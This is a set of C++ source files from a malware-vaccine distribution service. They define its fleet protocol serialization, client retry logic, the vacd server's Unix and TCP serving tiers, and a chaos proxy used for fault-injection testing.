    AUTOVAC_ASSIGN_OR_RETURN(request.lease_id, JsonFieldUint64(json, "lease"));
    AUTOVAC_ASSIGN_OR_RETURN(request.sample_index,
                             JsonFieldUint64(json, "index"));
    AUTOVAC_ASSIGN_OR_RETURN(request.api_calls,
                             JsonFieldUint64(json, "api_calls"));
    AUTOVAC_ASSIGN_OR_RETURN(request.resource_calls,
                             JsonFieldUint64(json, "resource_calls"));
    AUTOVAC_ASSIGN_OR_RETURN(request.tainted,
                             JsonFieldUint64(json, "tainted"));
    AUTOVAC_ASSIGN_OR_RETURN(request.identifiers,
                             JsonFieldUint64(json, "identifiers"));
    AUTOVAC_ASSIGN_OR_RETURN(request.suspicious,
                             JsonFieldBool(json, "suspicious"));
    return FleetRequest(std::move(request));
  }
  if (op == "fleet_status") return FleetRequest(FleetStatusRequest{});
  return Status::InvalidArgument(
      StrFormat("unknown fleet op '%s'", op.c_str()));
}

std::string FleetReplyToJson(const FleetReply& reply) {
  if (const auto* claim = std::get_if<ClaimReply>(&reply)) {
    if (!claim->has_work) {
      return StrFormat(
          "{\"ok\":true,\"op\":\"claim\",\"has_work\":false,\"done\":%s}",
          Bool(claim->done).c_str());
    }
    return StrFormat(
        "{\"ok\":true,\"op\":\"claim\",\"has_work\":true,\"done\":false,"
        "\"index\":%llu,\"name\":\"%s\",\"digest\":\"%s\",\"lease\":%llu,"
        "\"lease_ms\":%llu,\"config_digest\":\"%s\"}",
        static_cast<unsigned long long>(claim->sample_index),
        JsonEscape(claim->sample_name).c_str(),
        JsonEscape(claim->sample_digest).c_str(),
        static_cast<unsigned long long>(claim->lease_id),
        static_cast<unsigned long long>(claim->lease_ms),
        JsonEscape(claim->config_digest).c_str());
  }
  if (const auto* renew = std::get_if<RenewReply>(&reply)) {
    return StrFormat(
        "{\"ok\":true,\"op\":\"renew\",\"renewed\":%s,\"lease_ms\":%llu}",
        Bool(renew->renewed).c_str(),
        static_cast<unsigned long long>(renew->lease_ms));
  }
  if (const auto* complete = std::get_if<CompleteReply>(&reply)) {
    return StrFormat(
        "{\"ok\":true,\"op\":\"complete\",\"accepted\":%s,\"stale\":%s,"
        "\"duplicate\":%s,\"campaign_done\":%s}",
        Bool(complete->accepted).c_str(), Bool(complete->stale).c_str(),
        Bool(complete->duplicate).c_str(),
        Bool(complete->campaign_done).c_str());
  }
  if (const auto* verdict = std::get_if<VerdictReply>(&reply)) {
    return StrFormat("{\"ok\":true,\"op\":\"verdict\",\"accepted\":%s}",
                     Bool(verdict->accepted).c_str());
  }
  if (const auto* status = std::get_if<FleetStatusReply>(&reply)) {
    return StrFormat(
        "{\"ok\":true,\"op\":\"fleet_status\",\"total\":%llu,"
        "\"completed\":%llu,\"leased\":%llu,\"reassigned\":%llu,"
        "\"stale_rejected\":%llu,\"duplicates\":%llu,\"workers\":%llu,"
        "\"verdicts\":%llu,\"suspicious\":%llu,\"done\":%s}",
        static_cast<unsigned long long>(status->total),
        static_cast<unsigned long long>(status->completed),
        static_cast<unsigned long long>(status->leased),
        static_cast<unsigned long long>(status->reassigned),
        static_cast<unsigned long long>(status->stale_rejected),
        static_cast<unsigned long long>(status->duplicates),
        static_cast<unsigned long long>(status->workers),
        static_cast<unsigned long long>(status->verdicts),
        static_cast<unsigned long long>(status->suspicious),
        Bool(status->done).c_str());
  }
  const auto& error = std::get<ErrorReply>(reply);
  return StrFormat("{\"ok\":false,\"busy\":%s,\"error\":\"%s\"}",
                   Bool(error.busy).c_str(),
                   JsonEscape(error.message).c_str());
}

Result<FleetReply> ParseFleetReply(std::string_view text) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue json, ParseJson(text));
  AUTOVAC_ASSIGN_OR_RETURN(const bool ok, JsonFieldBool(json, "ok"));
  if (!ok) {
    ErrorReply error;
    AUTOVAC_ASSIGN_OR_RETURN(error.busy, JsonFieldBool(json, "busy"));
    AUTOVAC_ASSIGN_OR_RETURN(error.message, JsonFieldString(json, "error"));
    return FleetReply(std::move(error));
  }
  AUTOVAC_ASSIGN_OR_RETURN(const std::string op, JsonFieldString(json, "op"));
  if (op == "claim") {
    ClaimReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.has_work,
                             JsonFieldBool(json, "has_work"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.done, JsonFieldBool(json, "done"));
    if (reply.has_work) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.sample_index,
                               JsonFieldUint64(json, "index"));
      AUTOVAC_ASSIGN_OR_RETURN(reply.sample_name,
                               JsonFieldString(json, "name"));
      AUTOVAC_ASSIGN_OR_RETURN(reply.sample_digest,
                               JsonFieldString(json, "digest"));
      AUTOVAC_ASSIGN_OR_RETURN(reply.lease_id,
                               JsonFieldUint64(json, "lease"));
      AUTOVAC_ASSIGN_OR_RETURN(reply.lease_ms,
                               JsonFieldUint64(json, "lease_ms"));
      AUTOVAC_ASSIGN_OR_RETURN(reply.config_digest,
                               JsonFieldString(json, "config_digest"));
    }
    return FleetReply(std::move(reply));
  }
  if (op == "renew") {
    RenewReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.renewed, JsonFieldBool(json, "renewed"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.lease_ms,
                             JsonFieldUint64(json, "lease_ms"));
    return FleetReply(reply);
  }
  if (op == "complete") {
    CompleteReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.accepted, JsonFieldBool(json, "accepted"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.stale, JsonFieldBool(json, "stale"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.duplicate,
                             JsonFieldBool(json, "duplicate"));
    // Arrived after v1 of the protocol; a reply from an older
    // coordinator simply leaves it false (the worker polls one claim).
    if (json.Find("campaign_done") != nullptr) {
      AUTOVAC_ASSIGN_OR_RETURN(reply.campaign_done,
                               JsonFieldBool(json, "campaign_done"));
    }
    return FleetReply(reply);
  }
  if (op == "verdict") {
    VerdictReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.accepted, JsonFieldBool(json, "accepted"));
    return FleetReply(reply);
  }
  if (op == "fleet_status") {
    FleetStatusReply reply;
    AUTOVAC_ASSIGN_OR_RETURN(reply.total, JsonFieldUint64(json, "total"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.completed,
                             JsonFieldUint64(json, "completed"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.leased, JsonFieldUint64(json, "leased"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.reassigned,
                             JsonFieldUint64(json, "reassigned"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.stale_rejected,
                             JsonFieldUint64(json, "stale_rejected"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.duplicates,
                             JsonFieldUint64(json, "duplicates"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.workers, JsonFieldUint64(json, "workers"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.verdicts,
                             JsonFieldUint64(json, "verdicts"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.suspicious,
                             JsonFieldUint64(json, "suspicious"));
    AUTOVAC_ASSIGN_OR_RETURN(reply.done, JsonFieldBool(json, "done"));
    return FleetReply(reply);
  }
  return Status::InvalidArgument(
      StrFormat("unknown fleet reply op '%s'", op.c_str()));
}

}  // namespace autovac::net
