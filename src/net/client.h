// vacd client library: one connection per request (the protocol is
// strictly request/reply, and a feed client syncs rarely), blocking with
// the same deadline discipline as the server. Speaks to either tier
// through an endpoint spec (net/endpoint.h): a plain path dials the
// Unix socket, "tcp:host:port" / "tcp:port" dials the TCP event tier.
// With set_binary(true) the read-path requests (query/pull/status) go
// out in the compact binary encoding (net/binary.h); mutations always
// travel as JSON.
//
// The typed helpers unwrap the reply variant into Status codes:
//   * a busy shed  -> FailedPrecondition("vacd busy: ...") — back off and
//     retry, nothing about the request was wrong (IsBusy() tests this);
//   * a server-side error reply -> Internal(<server message>);
//   * connect refused/absent socket -> NotFound.
//
// Resilience: construct the client with a RetryPolicy and every typed
// helper retries the transient outcomes — BUSY, NotFound (server not up
// yet / connection refused), torn replies, per-attempt deadline misses —
// with capped exponential backoff and deterministic seeded jitter. The
// old hand-rolled "retry on NotFound until the server comes up" loop is
// subsumed and *capped*: when the policy's total budget runs out the
// client surfaces DeadlineExceeded instead of spinning forever. Pushes
// sent under a retrying policy carry a client-generated request id, so a
// retry of a push whose reply was torn is deduped server-side and never
// double-applies.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <string>
#include <string_view>
#include <vector>

#include "net/protocol.h"
#include "support/status.h"

namespace autovac::net {

// One AVNF frame round trip on a fresh connection: dial the endpoint
// spec (Unix path or tcp:host:port), send `request_payload`, read one
// reply frame, close. Single attempt — retry loops layer on top.
// Connect refused/absent maps to NotFound (the "no server yet" signal
// startup-wait loops key on); a clean close before any reply byte maps
// to Internal. Shared by the vacd client and the fleet control-plane
// client, so both tiers inherit the same wire-fault shim (faultwire.h)
// and deadline discipline.
//
// `after_send` is a chaos-test seam: invoked between the request frame
// landing and the reply read — the "request delivered, acknowledgement
// lost" window crash tests SIGKILL inside. Production passes nothing.
[[nodiscard]] Result<std::string> FrameRoundTrip(
    const std::string& endpoint_spec, uint64_t deadline_ms,
    std::string_view request_payload,
    const std::function<void()>& after_send = nullptr);

// Capped exponential backoff with deterministic seeded jitter. The
// default-constructed policy makes exactly one attempt (no retries);
// Retrying() is the sensible starting point for flaky links.
struct RetryPolicy {
  // Total attempts, including the first; 1 disables retries.
  uint32_t max_attempts = 1;
  uint64_t initial_backoff_ms = 10;  // doubles per attempt...
  uint64_t max_backoff_ms = 2000;    // ...up to this cap
  // Wall-clock budget across all attempts and backoffs. Exhausting it
  // surfaces DeadlineExceeded — the explicit max-wait that caps the
  // "wait for the server to come up" pattern.
  uint64_t max_total_ms = 30000;
  // Seeds the jitter stream (and the push request-id derivation): the
  // same seed replays the same backoff schedule, so chaos tests stay
  // deterministic.
  uint64_t seed = 0;

  [[nodiscard]] static RetryPolicy None() { return RetryPolicy{}; }
  [[nodiscard]] static RetryPolicy Retrying() {
    RetryPolicy policy;
    policy.max_attempts = 6;
    return policy;
  }
};

class VacdClient {
 public:
  // `endpoint_spec` is a Unix socket path or "tcp:host:port"/"tcp:port".
  explicit VacdClient(std::string endpoint_spec, uint64_t deadline_ms = 5000,
                      RetryPolicy retry = RetryPolicy())
      : endpoint_spec_(std::move(endpoint_spec)),
        deadline_ms_(deadline_ms),
        retry_(retry) {}

  // Binary encoding for the read path (query/pull/status). Mutations
  // and RoundTripRaw stay in whatever bytes the caller provides.
  void set_binary(bool binary) { binary_ = binary; }
  [[nodiscard]] bool binary() const { return binary_; }

  // Under a retrying policy the push carries a request id derived from
  // the policy seed, a per-client sequence number and the batch content,
  // so every retry of one logical push presents the same id.
  [[nodiscard]] Result<PushReply> Push(
      const std::vector<vaccine::Vaccine>& vaccines) const;
  // Retracts one vaccine by digest (idempotent: reply.already on a
  // repeat). The tombstone reaches delta-syncing clients on their next
  // pull.
  [[nodiscard]] Result<QuarantineReply> Quarantine(
      std::string_view digest, std::string_view reason) const;
  [[nodiscard]] Result<QueryReply> Query(os::ResourceType resource_type,
                                         std::string_view identifier) const;
  // One feed page: at most `limit` items (0 = everything), never
  // splitting a feed epoch, with reply.more signalling truncation.
  [[nodiscard]] Result<PullReply> Pull(uint64_t since,
                                       uint64_t limit = 0) const;
  // Pages through the whole delta after `since`. Each page is retried
  // independently, and the cursor only advances past fully-received
  // pages — a torn page reply re-pulls from the last item that made it.
  [[nodiscard]] Result<PullReply> SyncAll(uint64_t since,
                                          uint64_t page_limit = 0) const;
  [[nodiscard]] Result<StatusReply> Stats() const;

  // Full round trip with the reply variant exposed (busy arrives as an
  // ErrorReply value, not a Status — only retried under a policy, and
  // returned as-is once attempts run out).
  [[nodiscard]] Result<Reply> RoundTrip(const Request& request) const;

  // Sends `request_payload` verbatim (JSON or binary) and returns the
  // raw reply payload — the byte-identity the store sync tests compare
  // across restarts. Single attempt: retries live in RoundTrip and the
  // typed helpers.
  [[nodiscard]] Result<std::string> RoundTripRaw(
      std::string_view request_payload) const;

  // True iff `status` is the overload-shed outcome of a typed helper.
  [[nodiscard]] static bool IsBusy(const Status& status);

  // True iff `status` is an outcome a retry can fix: the server not up
  // yet (NotFound), a torn reply or severed connection (Internal), or a
  // per-attempt deadline miss (DeadlineExceeded).
  [[nodiscard]] static bool IsRetryable(const Status& status);

  [[nodiscard]] const RetryPolicy& retry_policy() const { return retry_; }

 private:
  // RoundTrip on a pre-serialized payload, with the retry loop. The
  // reply's encoding is sniffed (first byte), so one loop serves both.
  [[nodiscard]] Result<Reply> RoundTripPayload(
      const std::string& payload) const;

  std::string endpoint_spec_;
  uint64_t deadline_ms_;
  RetryPolicy retry_;
  bool binary_ = false;
  // Distinguishes two pushes of identical content from one retried push
  // in the request-id derivation.
  mutable std::atomic<uint64_t> push_sequence_{0};
};

}  // namespace autovac::net
