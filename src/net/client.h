// vacd client library: one connection per request (the protocol is
// strictly request/reply, and a feed client syncs rarely), blocking with
// the same deadline discipline as the server.
//
// The typed helpers unwrap the reply variant into Status codes:
//   * a busy shed  -> FailedPrecondition("vacd busy: ...") — back off and
//     retry, nothing about the request was wrong (IsBusy() tests this);
//   * a server-side error reply -> Internal(<server message>);
//   * connect refused/absent socket -> NotFound, so "wait for the server
//     to come up" loops can retry on that code alone.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "net/protocol.h"
#include "support/status.h"

namespace autovac::net {

class VacdClient {
 public:
  explicit VacdClient(std::string socket_path, uint64_t deadline_ms = 5000)
      : socket_path_(std::move(socket_path)), deadline_ms_(deadline_ms) {}

  [[nodiscard]] Result<PushReply> Push(
      const std::vector<vaccine::Vaccine>& vaccines) const;
  [[nodiscard]] Result<QueryReply> Query(os::ResourceType resource_type,
                                         std::string_view identifier) const;
  [[nodiscard]] Result<PullReply> Pull(uint64_t since) const;
  [[nodiscard]] Result<StatusReply> Stats() const;

  // Full round trip with the reply variant exposed (busy arrives as an
  // ErrorReply value, not a Status).
  [[nodiscard]] Result<Reply> RoundTrip(const Request& request) const;

  // Sends `request_json` verbatim and returns the raw reply payload —
  // the byte-identity the store sync tests compare across restarts.
  [[nodiscard]] Result<std::string> RoundTripRaw(
      std::string_view request_json) const;

  // True iff `status` is the overload-shed outcome of a typed helper.
  [[nodiscard]] static bool IsBusy(const Status& status);

 private:
  std::string socket_path_;
  uint64_t deadline_ms_;
};

}  // namespace autovac::net
