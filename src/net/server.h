// vacd: the long-lived vaccine distribution server (§V deployment,
// scaled from "copy the vaccine to the host" to a feed service).
//
// One Unix-domain listening socket, one accept thread, a fixed
// support/threadpool of request workers. The accept queue is explicitly
// bounded: when `max_pending` requests are already in flight the server
// answers the new connection with a busy reply and closes it — overload
// is shed at the door with a counted metric, never queued unbounded.
// Every accepted connection gets SO_RCVTIMEO/SO_SNDTIMEO so one stalled
// client cannot pin a worker past the request deadline.
//
// Store access is a reader/writer lock: PUSH takes it exclusively (the
// store appends + the match index rebuilds), QUERY/PULL/STATUS share it.
// Tracing spans are recorded only inside the exclusive sections
// ("vacd.push", "vacd.index_rebuild") because the global tracer is
// single-threaded by design; the shared-lock paths report through the
// (thread-safe) metrics registry only.
#pragma once

#include <array>
#include <atomic>
#include <cstdint>
#include <deque>
#include <memory>
#include <shared_mutex>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "net/protocol.h"
#include "support/match_index.h"
#include "support/metrics.h"
#include "support/status.h"
#include "support/threadpool.h"
#include "vacstore/store.h"

namespace autovac::net {

struct VacdOptions {
  std::string socket_path;
  size_t threads = 4;       // request worker pool size
  // In-flight cap before shedding BUSY; 0 sheds every connection (a
  // drain mode, and the deterministic way to test the shed path).
  size_t max_pending = 64;
  uint64_t deadline_ms = 5000;  // per-request socket read/write deadline
  // Bounded per-connection output buffer (SO_SNDBUF): a slow reader can
  // absorb at most this much before the write deadline starts ticking
  // and the connection is evicted. 0 keeps the kernel default.
  size_t sndbuf_bytes = 128 * 1024;
  // Push replies remembered per request id for idempotent retries; a
  // retried push whose reply was torn gets the recorded reply instead of
  // a second application. 0 disables dedup.
  size_t push_dedup_window = 128;
  // Checkpoint the store after this many accepted vaccines (and again on
  // Stop), bounding restart recovery to O(delta-since-checkpoint).
  // 0 = never checkpoint automatically.
  size_t checkpoint_every = 0;
};

class VacdServer {
 public:
  // Takes ownership of an opened (and possibly pre-loaded) store.
  VacdServer(vacstore::VaccineStore store, VacdOptions options);
  ~VacdServer();
  VacdServer(const VacdServer&) = delete;
  VacdServer& operator=(const VacdServer&) = delete;

  // Binds the socket (removing a stale one), builds the match index and
  // starts the accept thread + worker pool.
  [[nodiscard]] Status Start();

  // Graceful, idempotent shutdown: stops accepting, finishes every
  // in-flight request, fsyncs the store (plus a final checkpoint when
  // checkpoint_every is set), unlinks the socket. Called by the
  // destructor, and what the CLI runs on SIGTERM — the draining half of
  // "drain, then restart with bounded recovery".
  void Stop();

  // Checkpoints the store now (exclusive lock). Safe while serving.
  [[nodiscard]] Status CheckpointNow();

  // Current counters, as a STATUS reply (takes the shared lock).
  [[nodiscard]] StatusReply Stats() const;

  // The underlying store. Only safe while the server is stopped.
  [[nodiscard]] const vacstore::VaccineStore& store() const {
    return store_;
  }

 private:
  void AcceptLoop();
  void ServeConnection(int fd);
  [[nodiscard]] Reply Dispatch(const Request& request);
  // Counter snapshot under an already-held shared lock (the Dispatch
  // status path and the public Stats() share this body).
  [[nodiscard]] StatusReply Stats(
      const std::shared_lock<std::shared_mutex>& lock) const;
  // Rebuilds the per-resource-type indexes from served store entries.
  // Caller holds the exclusive lock.
  void RebuildIndex();

  vacstore::VaccineStore store_;
  VacdOptions options_;

  mutable std::shared_mutex mutex_;  // store_ + index under it
  // One index per resource type; ids map to store entry positions via
  // entry_of_id_, in feed order (so Match results are feed-ordered too).
  std::array<PatternIndex, os::kNumResourceTypes> index_;
  std::array<std::vector<size_t>, os::kNumResourceTypes> entry_of_id_;

  int listen_fd_ = -1;
  int stop_pipe_[2] = {-1, -1};
  std::thread accept_thread_;
  std::unique_ptr<ThreadPool> pool_;
  bool running_ = false;

  std::atomic<size_t> pending_{0};    // accepted, not yet answered
  std::atomic<uint64_t> requests_{0};  // answered (ok or error)
  std::atomic<uint64_t> shed_{0};      // refused with busy
  std::atomic<uint64_t> evicted_{0};   // write deadline hit, closed on them
  std::atomic<uint64_t> dedup_hits_{0};  // pushes answered from the window

  // Request-id -> recorded reply, FIFO-bounded to push_dedup_window.
  // Guarded by mutex_ (the push path already holds it exclusively).
  std::unordered_map<std::string, PushReply> dedup_replies_;
  std::deque<std::string> dedup_order_;
  size_t added_since_checkpoint_ = 0;  // guarded by mutex_

  Counter* requests_metric_ = nullptr;
  Counter* shed_metric_ = nullptr;
  Counter* failed_metric_ = nullptr;
  Counter* evicted_metric_ = nullptr;
  Counter* push_added_metric_ = nullptr;
  Counter* push_duplicate_metric_ = nullptr;
  Counter* push_quarantined_metric_ = nullptr;
  Counter* push_deduped_metric_ = nullptr;
  Counter* query_match_metric_ = nullptr;
  Counter* checkpoint_metric_ = nullptr;
};

}  // namespace autovac::net
