// vacd: the long-lived vaccine distribution server (§V deployment,
// scaled from "copy the vaccine to the host" to a feed service).
//
// Two serving tiers share one store:
//
//   * The Unix-domain tier: one accept thread, a fixed
//     support/threadpool of request workers, connection per request.
//     The accept queue is explicitly bounded: when `max_pending`
//     requests are already in flight the server answers the new
//     connection with a busy reply and closes it — overload is shed at
//     the door with a counted metric, never queued unbounded. Every
//     accepted connection gets SO_RCVTIMEO/SO_SNDTIMEO so one stalled
//     client cannot pin a worker past the request deadline.
//
//   * The TCP tier (enabled by `tcp_host`): a single-threaded epoll
//     event loop (net/eventloop.h) driving non-blocking per-connection
//     read/write state machines — persistent connections, pipelined
//     frames, JSON or binary payloads (net/binary.h). Read-only
//     requests (query/pull/status) are answered inline on the loop
//     thread under the shared lock; mutations (push/quarantine) are
//     handed to the worker pool and their replies posted back to the
//     loop. Flow control per connection: a token bucket sheds BUSY when
//     a client out-runs its rate, a bounded output buffer evicts
//     readers that stop draining, `max_connections` sheds new connects
//     at the door, and an idle sweep closes connections that go quiet.
//
// Store access is a reader/writer lock: PUSH/QUARANTINE take it
// exclusively (the store appends + the match index rebuilds),
// QUERY/PULL/STATUS share it. Tracing spans are recorded only inside
// the exclusive sections ("vacd.push", "vacd.index_rebuild") because
// the global tracer is single-threaded by design; the shared-lock paths
// report through the (thread-safe) metrics registry only.
#pragma once

#include <array>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <deque>
#include <memory>
#include <shared_mutex>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "net/eventloop.h"
#include "net/frame.h"
#include "net/protocol.h"
#include "support/match_index.h"
#include "support/metrics.h"
#include "support/status.h"
#include "support/threadpool.h"
#include "vacstore/store.h"

namespace autovac::net {

struct VacdOptions {
  std::string socket_path;
  size_t threads = 4;       // request worker pool size
  // In-flight cap before shedding BUSY; 0 sheds every connection (a
  // drain mode, and the deterministic way to test the shed path).
  size_t max_pending = 64;
  uint64_t deadline_ms = 5000;  // per-request socket read/write deadline
  // Bounded per-connection output buffer (SO_SNDBUF): a slow reader can
  // absorb at most this much before the write deadline starts ticking
  // and the connection is evicted. 0 keeps the kernel default.
  size_t sndbuf_bytes = 128 * 1024;
  // Push replies remembered per request id for idempotent retries; a
  // retried push whose reply was torn gets the recorded reply instead of
  // a second application. 0 disables dedup.
  size_t push_dedup_window = 128;
  // Checkpoint the store after this many accepted vaccines (and again on
  // Stop), bounding restart recovery to O(delta-since-checkpoint).
  // 0 = never checkpoint automatically.
  size_t checkpoint_every = 0;

  // --- TCP event-driven tier ---
  // Numeric IPv4 (or "localhost") to listen on; empty disables the TCP
  // tier. No authentication yet: bind loopback unless the network is
  // trusted (cross-machine auth lands with the multi-node fleet work).
  std::string tcp_host;
  uint16_t tcp_port = 0;  // 0 = ephemeral; read the result via tcp_port()
  // Concurrent TCP connections before new connects are shed BUSY.
  size_t max_connections = 4096;
  // Buffered reply bytes per connection before a non-draining reader is
  // evicted — the event-tier analogue of the SO_SNDBUF write deadline.
  size_t write_buffer_limit = 4u << 20;
  // Per-connection token bucket: sustained requests/second and burst
  // capacity; a client that out-runs it gets BUSY replies (counted as
  // shed). 0 rps disables rate limiting.
  double rate_limit_rps = 0.0;
  double rate_limit_burst = 64.0;
  // Connections with no traffic for this long are closed by the idle
  // sweep. 0 disables.
  uint64_t idle_timeout_ms = 60000;
};

class VacdServer {
 public:
  // Takes ownership of an opened (and possibly pre-loaded) store.
  VacdServer(vacstore::VaccineStore store, VacdOptions options);
  ~VacdServer();
  VacdServer(const VacdServer&) = delete;
  VacdServer& operator=(const VacdServer&) = delete;

  // Binds the socket (removing a stale one), builds the match index and
  // starts the accept thread + worker pool.
  [[nodiscard]] Status Start();

  // Graceful, idempotent shutdown: stops accepting, finishes every
  // in-flight request, fsyncs the store (plus a final checkpoint when
  // checkpoint_every is set), unlinks the socket. Called by the
  // destructor, and what the CLI runs on SIGTERM — the draining half of
  // "drain, then restart with bounded recovery".
  void Stop();

  // Checkpoints the store now (exclusive lock). Safe while serving.
  [[nodiscard]] Status CheckpointNow();

  // Current counters, as a STATUS reply (takes the shared lock).
  [[nodiscard]] StatusReply Stats() const;

  // The underlying store. Only safe while the server is stopped.
  [[nodiscard]] const vacstore::VaccineStore& store() const {
    return store_;
  }

  // The TCP tier's bound port (resolves tcp_port = 0 to the ephemeral
  // port the kernel assigned). Valid after Start(); 0 when disabled.
  [[nodiscard]] uint16_t tcp_port() const { return tcp_port_; }

  // Live TCP connections (event tier only).
  [[nodiscard]] size_t tcp_connections() const {
    return conn_count_.load(std::memory_order_relaxed);
  }

 private:
  // One TCP connection's state machine. Owned by the loop thread; never
  // touched from anywhere else (worker replies arrive via Post).
  struct TcpConn {
    int fd = -1;
    uint64_t id = 0;
    FrameDecoder decoder;
    std::string outbuf;        // encoded reply frames awaiting the socket
    size_t out_pos = 0;
    bool want_write = false;   // EPOLLOUT currently armed
    bool read_closed = false;  // peer half-closed (or we stopped reading)
    size_t inflight = 0;       // mutations at the pool, replies pending
    double tokens = 0.0;       // rate-limit bucket
    std::chrono::steady_clock::time_point last_refill;
    std::chrono::steady_clock::time_point last_activity;
  };

  void AcceptLoop();
  void ServeConnection(int fd);
  [[nodiscard]] Reply Dispatch(const Request& request);
  // Counter snapshot under an already-held shared lock (the Dispatch
  // status path and the public Stats() share this body).
  [[nodiscard]] StatusReply Stats(
      const std::shared_lock<std::shared_mutex>& lock) const;
  // Rebuilds the per-resource-type indexes from served store entries.
  // Caller holds the exclusive lock.
  void RebuildIndex();

  // --- TCP event tier (loop thread unless noted) ---
  [[nodiscard]] Status StartTcp();
  void StopTcp();
  void OnAcceptReady();
  void OnConnReady(uint64_t id, uint32_t events);
  // Decodes and serves every complete frame buffered on `conn`.
  void ServeFrames(TcpConn& conn);
  // True when the bucket granted one request; refills lazily.
  [[nodiscard]] bool TakeToken(TcpConn& conn);
  void SendReply(TcpConn& conn, const Reply& reply, bool binary);
  // Drives the buffered writer; arms/disarms EPOLLOUT; evicts when the
  // buffer outgrows write_buffer_limit.
  void FlushConn(TcpConn& conn);
  void CloseConn(uint64_t id);
  // Closes the connection when nothing more can happen on it.
  void MaybeFinish(TcpConn& conn);
  void SweepIdle();

  vacstore::VaccineStore store_;
  VacdOptions options_;

  mutable std::shared_mutex mutex_;  // store_ + index under it
  // One index per resource type; ids map to store entry positions via
  // entry_of_id_, in feed order (so Match results are feed-ordered too).
  std::array<PatternIndex, os::kNumResourceTypes> index_;
  std::array<std::vector<size_t>, os::kNumResourceTypes> entry_of_id_;

  int listen_fd_ = -1;
  int stop_pipe_[2] = {-1, -1};
  std::thread accept_thread_;
  std::unique_ptr<ThreadPool> pool_;
  bool running_ = false;

  // TCP tier state. conns_ is loop-thread-only; conn_count_ mirrors its
  // size for cross-thread reads.
  std::unique_ptr<EventLoop> loop_;
  std::thread loop_thread_;
  int tcp_listen_fd_ = -1;
  uint16_t tcp_port_ = 0;
  uint64_t next_conn_id_ = 1;
  std::unordered_map<uint64_t, std::unique_ptr<TcpConn>> conns_;
  std::atomic<size_t> conn_count_{0};

  std::atomic<size_t> pending_{0};    // accepted, not yet answered
  std::atomic<uint64_t> requests_{0};  // answered (ok or error)
  std::atomic<uint64_t> shed_{0};      // refused with busy
  std::atomic<uint64_t> evicted_{0};   // write deadline hit, closed on them
  std::atomic<uint64_t> dedup_hits_{0};  // pushes answered from the window

  // Request-id -> recorded reply, FIFO-bounded to push_dedup_window.
  // Guarded by mutex_ (the push path already holds it exclusively).
  std::unordered_map<std::string, PushReply> dedup_replies_;
  std::deque<std::string> dedup_order_;
  size_t added_since_checkpoint_ = 0;  // guarded by mutex_

  Counter* requests_metric_ = nullptr;
  Counter* rate_limited_metric_ = nullptr;
  Counter* quarantine_metric_ = nullptr;
  Counter* shed_metric_ = nullptr;
  Counter* failed_metric_ = nullptr;
  Counter* evicted_metric_ = nullptr;
  Counter* push_added_metric_ = nullptr;
  Counter* push_duplicate_metric_ = nullptr;
  Counter* push_quarantined_metric_ = nullptr;
  Counter* push_deduped_metric_ = nullptr;
  Counter* query_match_metric_ = nullptr;
  Counter* checkpoint_metric_ = nullptr;
};

}  // namespace autovac::net
