#include "net/chaosproxy.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

#include "net/endpoint.h"
#include "net/frame.h"
#include "support/strings.h"

namespace autovac::net {
namespace {

void SetDeadline(int fd, uint64_t deadline_ms) {
  timeval tv;
  tv.tv_sec = static_cast<time_t>(deadline_ms / 1000);
  tv.tv_usec = static_cast<suseconds_t>((deadline_ms % 1000) * 1000);
  (void)::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

// The backend leg must dial the *real* socket even when a test has
// installed an in-process fault shim, so backend connects bypass
// DialEndpoint (which routes through WireConnect) on purpose: the proxy
// is the fault injector here, not a victim of another one.
int ConnectBackend(const std::string& spec, uint64_t deadline_ms) {
  const Result<Endpoint> endpoint = ParseEndpoint(spec);
  if (!endpoint.ok()) return -1;
  sockaddr_storage storage{};
  socklen_t len = 0;
  int fd = -1;
  if (endpoint->tcp) {
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(endpoint->port);
    const std::string host =
        endpoint->host == "localhost" ? "127.0.0.1" : endpoint->host;
    if (::inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1) return -1;
    std::memcpy(&storage, &addr, sizeof(addr));
    len = sizeof(addr);
    fd = ::socket(AF_INET, SOCK_STREAM, 0);
  } else {
    sockaddr_un addr{};
    if (endpoint->path.size() >= sizeof(addr.sun_path)) return -1;
    addr.sun_family = AF_UNIX;
    std::memcpy(addr.sun_path, endpoint->path.c_str(),
                endpoint->path.size() + 1);
    std::memcpy(&storage, &addr, sizeof(addr));
    len = sizeof(addr);
    fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  }
  if (fd < 0) return -1;
  SetDeadline(fd, deadline_ms);
  while (::connect(fd, reinterpret_cast<const sockaddr*>(&storage), len) !=
         0) {
    if (errno == EINTR) continue;
    if (errno == EISCONN) break;
    ::close(fd);
    return -1;
  }
  return fd;
}

}  // namespace

ChaosProxy::ChaosProxy(const NetFaultPlan& plan, ChaosProxyOptions options)
    : plan_(plan), options_(std::move(options)), injector_(plan_) {}

